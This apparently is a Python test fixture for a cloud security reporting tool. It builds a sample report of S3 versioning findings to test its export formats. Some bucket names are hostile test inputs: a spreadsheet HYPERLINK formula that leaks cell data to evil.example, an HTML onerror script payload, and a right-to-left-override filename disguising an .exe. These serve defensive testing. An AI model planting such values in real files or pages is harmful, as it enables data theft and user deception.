"""A small report with good, bad, unread and hostile assets, for the tests of every format."""

from datetime import UTC, datetime

from poise.checks import catalog
from poise.export.report import Recommendation, Report
from poise.model.finding import AssetRef, ControlRef, Effect, Finding, Risk, RiskFactor
from poise.model.listing import Gap
from poise.model.listings import Coverage, GapRow, PartitionState, ScopeCoverage
from poise.model.verdict import Severity, State

CHECK = "aws.s3.versioning_off"
READ_AT = datetime(2026, 11, 25, 9, 30, tzinfo=UTC)
MADE_AT = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
ACCOUNT = "111122223333"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open me")'
MARKUP = "<img src=x onerror=alert(1)>"
REVERSED = "safe\u202egpj.exe"


def finding(number: int, name: str, **changes: object) -> Finding:
    fields: dict[str, object] = {
        "id": f"{number:020x}",
        "check": CHECK,
        "title": "S3 buckets should keep earlier versions of objects",
        "severity": Severity.LOW,
        "risk": Risk(Severity.LOW, (RiskFactor("severity", 1.0, "the check is low"),)),
        "verdict": State.UNHEALTHY,
        "reason": "versioning was never enabled",
        "evidence": None,
        "read_at": READ_AT,
        "source": "aws",
        "asset": AssetRef(f"arn:aws:s3:::{name}", "AWS::S3::Bucket", name, "aws", ACCOUNT, "eu-west-1"),
        "first_seen": READ_AT,
        "owner": None,
        "due": None,
        "exemption": None,
        "effect": Effect.COUNTED,
        "controls": (ControlRef("cis_aws_3_0", "2.1.9"),),
    }
    return Finding(**(fields | changes))


def report() -> Report:
    findings = (
        finding(1, "reports", evidence="Suspended", reason="versioning is suspended"),
        finding(2, FORMULA),
        finding(3, MARKUP, source="files:/exports/prod/s3.json:12"),
        finding(4, REVERSED, effect=Effect.WAIVED, exemption="accepted until March"),
        finding(5, "archive", verdict=State.UNKNOWN, reason="versioning was not read: AccessDenied"),
    )
    gap = Gap("s3", "s3:GetBucketVersioning", "AccessDenied", "s3:GetBucketVersioning", count=1)
    scope = ScopeCoverage(ACCOUNT, "aws", "aws", "shop", PartitionState.PARTIAL, {"partial": 1}, READ_AT)
    counts = {"healthy": 7, "unhealthy": 3, "unknown": 1, "exempt": 1}
    one = Recommendation(check=CHECK, title=findings[0].title, severity=Severity.LOW, **counts)
    return Report(
        made_at=MADE_AT,
        version="0.1.0",
        assets=12,
        score=SCORE,
        coverage=Coverage((scope,), (GapRow(ACCOUNT, "aws", "global", gap),)),
        recommendations=(one,),
        findings=findings,
        checks={CHECK: catalog.load()[CHECK]},
    )


def empty_report() -> Report:
    return Report(
        made_at=MADE_AT,
        version="0.1.0",
        assets=0,
        score={},
        coverage=Coverage((), ()),
        recommendations=(),
        findings=(),
        checks={},
    )


_PART = {"current": 2.8, "max": 4, "percentage": 0.7, "unknown": 1, "range": {"low": 0.6364, "high": 0.7273}}
SCORE = {"overall": _PART, "scopes": [{"scope": ACCOUNT, "weight": 10, **_PART, "controls": []}]}
